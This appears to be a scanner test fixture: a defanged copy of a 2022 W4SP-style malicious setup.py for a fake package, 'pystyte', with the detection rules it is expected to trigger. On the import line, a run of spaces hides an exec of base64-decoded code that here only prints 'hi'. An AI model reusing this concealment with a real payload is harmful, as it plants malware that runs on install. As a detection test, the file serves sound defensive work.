# W4SP-style setup.py (2022): the loader sits after hundreds of spaces on
# the import line, out of sight in an editor. Defanged: print('hi').
from setuptools import setup, find_packages                                                                                                                                                                                                                                                                                                                                ;__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode("cHJpbnQoJ2hpJyk="),'<string>','exec'))  # expect: HS101 critical, HS103 critical, HS104 critical, HS205 critical

VERSION = '1.0.2'

setup(
    name="pystyte",
    version=VERSION,
    description="Style your terminal output",
    packages=find_packages(),
    classifiers=[
        "Programming Language :: Python :: 3",
        "Operating System :: OS Independent",
    ],
)
